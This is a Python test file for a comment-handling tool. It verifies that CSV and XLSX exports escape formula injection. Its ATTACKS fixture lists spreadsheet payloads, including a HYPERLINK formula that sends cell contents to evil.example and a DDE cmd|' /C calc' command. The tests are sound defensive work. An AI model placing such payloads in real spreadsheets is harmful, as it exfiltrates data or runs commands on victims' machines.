"""Every export a spreadsheet opens: no cell from a viewer or an expert is ever a formula.

Issue 17: `export comments --format csv`, `kb export x.csv` and the follow-up list wrote cells
starting with =, +, -, @ raw; `=HYPERLINK("http://…?x="&A1,"点我")` became a live formula.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from videohelp.console.cli import main as cli_main
from videohelp.console.kb_import import export_file, import_file
from videohelp.console.reports.export import write_followup_csv, write_followup_xlsx
from videohelp.console.reports.questions import FollowUp
from videohelp.console.spreadsheet import FORMULA_START, neutralise, restore
from videohelp.core.knowledge import EXPERT_SOURCE, Entry, KnowledgeBase
from videohelp.queue.comments import IncomingComment
from videohelp.queue.persist import CommentWriter

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_no_formula_cell(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_START), f"a cell a spreadsheet would evaluate: {cell!r}"


def _assert_no_xlsx_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in book.read(name).decode("utf-8"), name


def test_neutralise_and_restore_are_inverse() -> None:
    for attack in [*ATTACKS, "正常文本", "'=已经有引号", ""]:
        assert restore(neutralise(attack)) == attack
    assert neutralise(-5) == -5 and neutralise("=1") == "'=1" and neutralise("a=1") == "a=1"


def test_export_comments_csv_neutralises_text_ids_and_names(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    writer = CommentWriter(data / "videohelp.sqlite3")
    writer.write([IncomingComment("douyin", f"={n}", attack, attack, attack, 1_700_000_000_000 + n)
                  for n, attack in enumerate(ATTACKS)])
    writer.close()
    out = tmp_path / "comments.csv"
    assert cli_main(["export", "comments", "--format", "csv", "--data-dir", str(data),
                     "--output", str(out)]) == 0
    cells = _cells(out)
    _assert_no_formula_cell(cells)
    assert "'" + ATTACKS[0] in cells and "'=0" in cells


@pytest.fixture
def kb(tmp_path: Path):
    kb = KnowledgeBase.open(tmp_path / "kb.sqlite3", seed=False)
    kb.catalog_store.seed_if_empty()
    yield kb
    kb.close()


def test_kb_export_csv_and_xlsx_never_hold_formulas_and_round_trip(kb, tmp_path: Path) -> None:
    entry = Entry("MV02-901", "MV02", (ATTACKS[0], "@过户"), ATTACKS[1], ATTACKS[2], EXPERT_SOURCE,
                  "专家A 2025-03-01", change_note=ATTACKS[3])
    kb.save(entry, "专家")
    before = kb.get("MV02-901")
    out = tmp_path / "kb.csv"
    export_file(kb, out, ("knowledge",))
    _assert_no_formula_cell(_cells(out))
    book = tmp_path / "kb.xlsx"
    export_file(kb, book)
    _assert_no_xlsx_formula(book)
    sheet = openpyxl.load_workbook(book)["knowledge"]
    assert ATTACKS[1] in [cell.value for row in sheet.iter_rows() for cell in row]
    # Reading our own export back restores the text exactly.
    kb.save(Entry("MV02-901", "MV02", ("改过",), "改过", "改过", EXPERT_SOURCE, "专家A 2025-03-01",
                  version=before.version), "专家")
    report = import_file(kb, out, actor="导入员")
    assert not report.problems, report.problems
    after = kb.get("MV02-901")
    assert (after.questions, after.short_answer, after.full_answer) == (
        before.questions, before.short_answer, before.full_answer)


def _followups() -> list[FollowUp]:
    return [FollowUp(n, 1_700_000_000_000, "douyin", attack, attack, attack, "MV02", attack,
                     "question", 2, "new", False, None, False) for n, attack in enumerate(ATTACKS)]


def test_report_followup_csv_and_xlsx_never_hold_formulas(tmp_path: Path) -> None:
    out = write_followup_csv(_followups(), tmp_path / "open.csv")
    cells = _cells(out)
    _assert_no_formula_cell(cells)
    assert "'" + ATTACKS[0] in cells
    book = write_followup_xlsx(_followups(), tmp_path / "open.xlsx")
    _assert_no_xlsx_formula(book)
    with zipfile.ZipFile(book) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert 't="inlineStr"' in sheet and "HYPERLINK" in sheet  # kept, as text
